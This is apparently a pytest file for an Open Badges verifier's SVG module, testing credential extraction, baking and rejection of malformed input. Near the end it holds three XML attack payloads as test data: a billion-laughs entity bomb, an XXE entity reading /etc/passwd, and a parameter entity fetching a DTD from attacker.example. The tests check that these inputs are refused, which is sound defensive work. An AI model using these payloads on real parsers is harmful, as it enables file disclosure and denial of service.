"""Tests for verifier/formats/svg.py: the baked element, read safely and spliced in."""

from __future__ import annotations

import json

import defusedxml.ElementTree as SafeET  # type: ignore[import-untyped]
import pytest

from tests.verifier.formats.samples import (
    BAKERY,
    CREDENTIAL,
    CREDENTIAL_JSON,
    OB30,
    vc_jwt,
    vector,
)
from verifier.errors import MalformedInput, NoCredential, UnsupportedFormat
from verifier.formats import svg

OB3 = "https://purl.imsglobal.org/ob/v3p0"
PLAIN = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b"<!-- <openbadges:credential> in a comment is not an element -->\n"
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" data-x="a>b">\n'
    b'  <circle cx="5" cy="5" r="4"/>\n'
    b"</svg>\n"
)


def test_ob30_json_vector_holds_the_credential_in_cdata() -> None:
    baked = svg.extract(vector(OB30 / "simple-json.svg"))
    assert (baked.version, baked.verify) == ("ob3", None)
    assert json.loads(baked.text)["name"] == "Teamwork Badge"


@pytest.mark.parametrize("name", ["simple-jwt.svg", "simple-jwt_v1.svg"])
def test_ob30_jwt_vectors_hold_a_jws_in_verify(name: str) -> None:
    baked = svg.extract(vector(OB30 / name))
    assert baked.version == "ob3"
    assert baked.verify is not None and baked.verify.count(".") == 2
    assert baked.text == ""


def test_ob2_bakery_vector_has_a_verify_url_and_a_json_body() -> None:
    baked = svg.extract(vector(BAKERY / "baked.svg"))
    assert (baked.version, baked.verify) == ("ob2", "http://example.org")
    assert json.loads(baked.text) == {"verify": {"url": "http://example.org"}}


def test_ob2_bakery_bad_json_is_still_extracted_as_text() -> None:
    # Extraction does not judge the body; read() refuses it (see test_read.py).
    assert svg.extract(vector(BAKERY / "bad-json.svg")).text.startswith("{verify:")


def test_unbaked_svg_has_no_credential() -> None:
    with pytest.raises(NoCredential, match="no <openbadges:credential>"):
        svg.extract(vector(BAKERY / "unbaked.svg"))


def test_bake_ob3_json_puts_cdata_in_the_root_first_child_and_keeps_other_bytes() -> None:
    baked = svg.bake(PLAIN, credential=CREDENTIAL_JSON)
    head, _, rest = baked.partition(b"<svg ")
    assert head == PLAIN.partition(b"<svg ")[0]
    assert rest.endswith(PLAIN.partition(b'data-x="a>b">')[2])
    root = SafeET.fromstring(baked)
    assert root[0].tag == f"{{{OB3}}}credential"
    assert json.loads(svg.extract(baked).text) == CREDENTIAL  # "]]>" survived the CDATA
    assert f'xmlns:openbadges="{OB3}"'.encode() in baked


def test_bake_ob3_jws_goes_in_the_verify_attribute() -> None:
    baked = svg.bake(PLAIN, credential=vc_jwt())
    assert svg.extract(baked) == svg.Baked("ob3", vc_jwt(), "")
    assert f'<openbadges:credential verify="{vc_jwt()}"></openbadges:credential>'.encode() in baked


def test_bake_ob2_json_with_a_hosted_url() -> None:
    url = "https://issuer.example/assertions/1?a=1&b=2"
    baked = svg.bake(PLAIN, credential='{"type": "Assertion"}', version="ob2", verify=url)
    assert svg.extract(baked) == svg.Baked("ob2", url, '{"type": "Assertion"}')
    assert b'xmlns:openbadges="http://openbadges.org"' in baked


def test_bake_ob2_signed_assertion_goes_in_verify() -> None:
    baked = svg.bake(PLAIN, credential=vc_jwt(), version="ob2")
    assert svg.extract(baked) == svg.Baked("ob2", vc_jwt(), "")


def test_baking_again_replaces_the_element_instead_of_stacking() -> None:
    once = svg.bake(PLAIN, credential="{}")
    assert svg.bake(once, credential=vc_jwt()) == svg.bake(PLAIN, credential=vc_jwt())


def test_baking_ob3_over_an_ob2_baked_svg_replaces_element_and_namespace() -> None:
    baked = svg.bake(vector(BAKERY / "baked.svg"), credential=CREDENTIAL_JSON)
    assert b"openbadges:assertion" not in baked
    assert b"http://openbadges.org" not in baked
    assert svg.extract(baked).version == "ob3"


def test_baking_a_vector_with_a_doctype_keeps_it() -> None:
    baked = svg.bake(vector(OB30 / "simple-jwt.svg"), credential=CREDENTIAL_JSON)
    assert b"<!DOCTYPE svg PUBLIC" in baked
    assert baked.count(b"<openbadges:credential") == 1


def test_bake_into_a_self_closing_root() -> None:
    baked = svg.bake(b'<svg xmlns="http://www.w3.org/2000/svg" />', credential="{}")
    assert svg.extract(baked) == svg.Baked("ob3", None, "{}")
    assert baked.endswith(b"</svg>")


def test_bake_refuses_verify_for_ob3_and_text_that_is_no_credential() -> None:
    with pytest.raises(MalformedInput, match="verify is for OB 2.0"):
        svg.bake(PLAIN, credential="{}", verify="https://x.example/")
    with pytest.raises(MalformedInput, match="JSON or a compact JWS"):
        svg.bake(PLAIN, credential="hello")


def test_bake_refuses_a_utf16_svg() -> None:
    data = PLAIN.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16")
    assert svg.extract(svg.bake(PLAIN, credential="{}").decode().encode("utf-8")).text == "{}"
    with pytest.raises(MalformedInput, match="UTF-8"):
        svg.bake(data, credential="{}")


def test_utf16_svg_is_extracted() -> None:
    baked = svg.bake(PLAIN, credential="{}").replace(b"UTF-8", b"UTF-16")
    assert svg.extract(baked.decode().encode("utf-16")).text == "{}"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
  <openbadges:credential>&lol3;</openbadges:credential>
</svg>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
  <openbadges:credential>&xxe;</openbadges:credential>
</svg>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY], ids=["billion-laughs", "xxe", "parameter"]
)
def test_entity_declarations_are_refused(data: bytes) -> None:
    with pytest.raises(MalformedInput, match="entities"):
        svg.extract(data)
    with pytest.raises(MalformedInput, match="entities"):
        svg.bake(data, credential="{}")


def test_undeclared_entity_reference_is_malformed() -> None:
    data = b'<!DOCTYPE svg SYSTEM "http://x.example/a.dtd"><svg>&x;</svg>'
    with pytest.raises(MalformedInput, match="not well-formed"):
        svg.extract(data)


def test_xml_whose_root_is_not_svg_is_unsupported() -> None:
    with pytest.raises(UnsupportedFormat, match="not an SVG"):
        svg.extract(b"<html><body/></html>")


def test_two_credential_elements_are_refused() -> None:
    element = f'<o:credential xmlns:o="{OB3}">{{}}</o:credential>'
    data = f"<svg>{element}<g>{element}</g></svg>".encode()
    with pytest.raises(MalformedInput, match="2 <openbadges:credential> elements"):
        svg.extract(data)


def test_truncated_svg_is_refused() -> None:
    data = vector(OB30 / "simple-json.svg")
    with pytest.raises(MalformedInput, match="not well-formed"):
        svg.extract(data[: len(data) // 2])


def test_deep_nesting_is_read_without_recursion() -> None:
    data = b"<svg>" + b"<g>" * 100_000 + b"</g>" * 100_000 + b"</svg>"
    with pytest.raises(NoCredential):
        svg.extract(data)


def test_svg_over_the_size_cap_is_refused() -> None:
    with pytest.raises(MalformedInput, match="at most 10"):
        svg.extract(PLAIN, max_bytes=10)


def test_rebaking_removes_a_self_closing_ob2_element() -> None:
    signed = svg.bake(PLAIN, credential=vc_jwt(), version="ob2")
    assert b"<openbadges:assertion verify=" in signed and signed.count(b"/>") == 2
    assert svg.bake(signed, credential="{}") == svg.bake(PLAIN, credential="{}")


def test_bake_refuses_an_svg_using_the_openbadges_prefix_for_another_namespace() -> None:
    data = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="urn:other">'
        b"<openbadges:credential/></svg>"
    )
    with pytest.raises(MalformedInput, match="prefix for another namespace"):
        svg.bake(data, credential="{}")


def test_bake_leaves_an_attribute_value_that_quotes_a_namespace_declaration() -> None:
    data = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org" '
        b"data-note=' xmlns:openbadges=\"x\"'/>"
    )
    baked = svg.bake(data, credential="{}")
    assert b"data-note=' xmlns:openbadges=\"x\"'" in baked
    assert b"http://openbadges.org" not in baked
